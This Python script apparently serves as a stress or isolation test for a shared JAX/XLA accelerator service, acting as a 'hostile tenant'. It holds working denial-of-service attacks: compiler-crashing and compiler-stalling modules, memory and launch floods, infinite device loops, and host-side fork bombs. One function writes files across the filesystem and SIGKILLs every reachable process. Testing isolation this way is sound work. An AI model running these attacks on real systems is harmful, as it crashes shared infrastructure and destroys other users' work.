"""Attacks of the hostile tenant, one kind per process. The process repeats its attack until it is killed.

`python -m scripts.hostile.attacks KIND SEED` prints one line per try, with what came of it.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import random
import sys
import time
from collections.abc import Callable
from typing import Any

import numpy as np

_PAUSE = 0.05


def _said(what: object) -> None:
    print(str(what).replace("\n", " ")[:300], flush=True)


def _compile(text: str) -> None:
    """Compile a module on the cluster, unchanged, for the first device."""
    import jax
    from jax._src.interpreters import mlir
    from jax._src.lib import xla_client
    from jax._src.lib.mlir import ir

    device = jax.devices()[0]
    options = xla_client.CompileOptions()
    options.device_assignment = xla_client.DeviceAssignment.create(np.array([[device.id]], np.int32))
    context = mlir.make_ir_context()
    with context, ir.Location.unknown(context):
        module = ir.Module.parse(text)
    device.client.compile_and_load(module, executable_devices=xla_client.DeviceList((device,)), compile_options=options)


def recursion(seed: int) -> None:
    """A function that calls itself."""
    _compile(
        f"""
        func.func private @f(%x: tensor<{seed}xf32>) -> tensor<{seed}xf32> {{
          %y = func.call @f(%x) : (tensor<{seed}xf32>) -> tensor<{seed}xf32>
          return %y : tensor<{seed}xf32>
        }}
        func.func public @main(%x: tensor<{seed}xf32>) -> tensor<{seed}xf32> {{
          %y = func.call @f(%x) : (tensor<{seed}xf32>) -> tensor<{seed}xf32>
          return %y : tensor<{seed}xf32>
        }}"""
    )


def wrong_top_k(seed: int) -> None:
    """A TopK whose result has the wrong shape: XLA ends its process."""
    size = 16 + seed % 1000
    _compile(
        f"""
        func.func public @main(%x: tensor<{size}xf32>) -> tensor<3xf32> {{
          %y = stablehlo.custom_call @TopK(%x) : (tensor<{size}xf32>) -> tensor<3xf32>
          return %y : tensor<3xf32>
        }}"""
    )


def bomb(seed: int) -> None:
    """A module of 20,000 operations, which takes XLA minutes."""
    import jax
    import jax.numpy as jnp

    def many(x: Any) -> Any:
        for i in range(20_000):
            x = jnp.sin(x) * (1 + seed + i)
        return x

    jax.jit(many).lower(jnp.zeros(8 + seed % 100)).compile()


def allocate(seed: int) -> None:
    """Arrays without end."""
    import jax.numpy as jnp

    kept: list[Any] = []
    try:
        while True:
            kept.append(jnp.full((1 << 20,), len(kept) + seed, jnp.float32))
            if len(kept) % 16 == 0:
                kept[-1].block_until_ready()
    finally:
        _said(f"{len(kept)} arrays")


def device_loop(seed: int) -> None:
    """A loop without end on one device."""
    _loop_on(1)


def device_loops(seed: int) -> None:
    """A loop without end on all devices, with a collective in each iteration."""
    import jax

    _loop_on(len(jax.devices()))


def _loop_on(devices: int) -> None:
    import jax
    import jax.numpy as jnp

    mesh = jax.make_mesh((devices,), ("x",), devices=jax.devices()[:devices])
    x = jax.device_put(jnp.zeros(devices), jax.NamedSharding(mesh, jax.P("x")))
    loop = jax.jit(lambda x: jax.lax.while_loop(lambda y: y.max() < 3, lambda y: y * 0.5 + 1, x))
    loop(x).block_until_ready()


def launch(seed: int) -> None:
    """Tiny launches as fast as they go."""
    import jax
    import jax.numpy as jnp

    add = jax.jit(lambda x: x + 1)
    x = jnp.zeros(())
    for _ in range(5000):
        x = add(x)
    x.block_until_ready()
    _said("5,000 launches")


def register(seed: int) -> None:
    """Programs of 20,000 nodes and more, one after the other, by the control protocol itself."""
    from atoll.session.bare import BareClient, call, program, sharded

    async def flood() -> None:
        client = await BareClient.open(os.environ["ATOLL_ADDRESS"], "flood", os.environ["ATOLL_TOKEN"])
        where = client.devices[:1]
        spec = sharded(where, 4)
        for size in (20_000, 65_536, 150_000):
            nodes = [call(1, (index,), (spec,), where) for index in range(size)]
            client.register(program(f"flood {seed}", (spec,), nodes, (size,)))
        await asyncio.sleep(2)
        client.close()

    asyncio.run(flood())


def python_loop(seed: int) -> None:
    """Python on the hosts that computes for ever, in many threads and processes."""
    _on_a_host(_spin)


def python_bomb(seed: int) -> None:
    """Python on the hosts that starts processes, and takes memory, until it is stopped."""
    _on_a_host(_grow)


def python_files(seed: int) -> None:
    """Python on the hosts that writes wherever it can, and signals whom it can."""
    _on_a_host(_write_everywhere)


def _on_a_host(function: Callable[[Any], Any]) -> None:
    import jax
    import jax.numpy as jnp
    from jax.experimental import colocated_python

    x = jax.device_put(jnp.zeros((4,)), jax.devices()[0])
    call = colocated_python.colocated_python(function)
    cpus = colocated_python.colocated_cpu_devices(jax.devices()[:1])
    call = call.specialize(devices=cpus)
    _said(np.asarray(call(jax.device_put(x, cpus[0]))))


def _spin(x: Any) -> Any:
    import os as system
    import threading

    for _ in range(3):
        system.fork()
    for _ in range(4):
        threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
    while x is not None:
        pass
    return x


def _grow(x: Any) -> Any:
    import os as system

    kept = []
    for _ in range(64):
        system.fork()
        kept.append(bytearray(64 << 20))
    while x is not None:
        kept.append(bytearray(16 << 20))
    return x


def _write_everywhere(x: Any) -> Any:
    import os as system
    import signal
    from pathlib import Path

    done = 0
    for root in ("/", "/tmp", "/dev/shm", "/root", "/home", "/var/tmp", str(Path.home())):
        for directory, directories, _ in system.walk(root):
            directories[:] = directories[:20]
            try:
                (Path(directory) / "hostile").write_bytes(b"x")
                (Path(directory) / "hostile").unlink()
                done += 1
            except OSError:
                pass
            if done > 200:
                break
    for pid in range(2, 70_000):
        if pid != system.getpid():
            with contextlib.suppress(OSError):
                system.kill(pid, signal.SIGKILL)
    return x + done


ATTACKS: dict[str, Callable[[int], None]] = {
    "recursion": recursion,
    "wrong-top-k": wrong_top_k,
    "bomb": bomb,
    "allocate": allocate,
    "device-loop": device_loop,
    "device-loops": device_loops,
    "launch": launch,
    "register": register,
    "python-loop": python_loop,
    "python-bomb": python_bomb,
    "python-files": python_files,
}
# These may end the session, and a client opens only one: each try needs a new process.
_ONE_TRY = ("register", "python-loop", "python-bomb", "python-files")


def main() -> None:
    kind, seed = sys.argv[1], int(sys.argv[2])
    rng = random.Random(seed)
    while True:
        try:
            ATTACKS[kind](rng.randrange(1, 1 << 20))
            _said("done")
        except Exception as error:
            _said(f"{type(error).__name__}: {error}")
        if kind in _ONE_TRY:
            return
        time.sleep(_PAUSE)


if __name__ == "__main__":
    main()
